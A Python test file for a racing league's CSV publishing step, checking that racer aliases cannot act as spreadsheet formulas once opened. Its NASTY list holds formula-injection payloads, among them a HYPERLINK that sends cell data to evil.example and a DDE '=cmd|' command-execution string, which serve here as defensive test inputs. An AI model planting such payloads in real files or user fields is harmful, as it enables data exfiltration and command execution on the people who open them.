"""The CSV files open in a spreadsheet without harm, whatever racers call themselves."""

from __future__ import annotations

import csv
import io
import re

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from publish import spreadsheet
from publish.spreadsheet import TABLES, harmless, write_csv

TRIGGERS = tuple("=+-@＝＋－＠")
NASTY = (
    '=HYPERLINK("http://evil.example/?"&A1,"me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "a;=1+1",
    'a,"=1+1',
    "a\n=1+1",
)


@pytest.mark.parametrize("alias", NASTY)
def test_a_name_that_could_be_a_formula_gets_an_apostrophe(alias):
    cell = harmless(alias)
    assert cell.replace("'", "") == alias.replace("'", "")
    assert not cell.startswith((*TRIGGERS, "\t", "\r", "\n"))
    assert "'" in cell


@pytest.mark.parametrize(
    "alias", ["S-P-", "a=b", "me@work", "007", "名前", "'quoted'", "", "NULL"]
)
def test_any_other_name_stays_as_it_is(alias):
    assert harmless(alias) == alias


@given(st.lists(st.text(alphabet="=+-@＝;,\t\r\n\"' a1"), min_size=1, max_size=3))
def test_no_cell_is_a_formula_whatever_a_spreadsheet_takes_for_the_separator(cells):
    line = io.StringIO()
    csv.writer(line).writerow([harmless(cell) for cell in cells])
    for naive in (
        *re.split(r"[;,\t\r\n]", line.getvalue()),
        *next(csv.reader([line.getvalue()])),
    ):
        assert not naive.strip().lstrip('" \t').startswith(TRIGGERS)


def test_a_user_id_that_begins_with_a_minus_is_no_formula():
    assert harmless("-1lhRLeeRTCRUGoxx3ybDA") == "'-1lhRLeeRTCRUGoxx3ybDA"


def test_the_files_hold_the_winner_tables_row_for_row(everything):
    files = {f"{table}.csv" for table in TABLES} | {"datapackage.json"}
    assert {path.name for path in (everything.data / "csv").iterdir()} == files
    for table in TABLES:
        body = (everything.data / f"csv/{table}.csv").read_bytes()
        assert body.startswith(b"\xef\xbb\xbf"), "without the mark Excel garbles names"
        _, *rows = csv.reader(io.StringIO(body.decode("utf-8-sig")))
        expected = everything.ask(f"select columns(*)::varchar from {table}")
        assert [[cell.removeprefix("'") for cell in row] for row in rows] == [
            [cell or "" for cell in row] for row in expected
        ]
        assert len(rows) > 2


def test_nasty_names_in_the_tables_are_harmless_in_the_files(tmp_path, monkeypatch):
    database, to = tmp_path / "league.duckdb", tmp_path / "csv"
    to.mkdir()
    with duckdb.connect(str(database)) as opened:
        for table in TABLES:
            opened.execute(f"create table {table} (award_number integer, alias varchar)")
            opened.executemany(f"insert into {table} values (?, ?)", list(enumerate(NASTY)))
    monkeypatch.setattr(spreadsheet, "write_datapackage", lambda *_: None)
    monkeypatch.setattr(spreadsheet, "read_artifact", lambda *_: {})
    write_csv(database, to, tmp_path)
    for table in TABLES:
        with (to / f"{table}.csv").open(encoding="utf-8-sig", newline="") as lines:
            header, *rows = csv.reader(lines)
        assert header == ["award_number", "alias"]
        assert [alias for _, alias in rows] == [harmless(alias) for alias in NASTY]
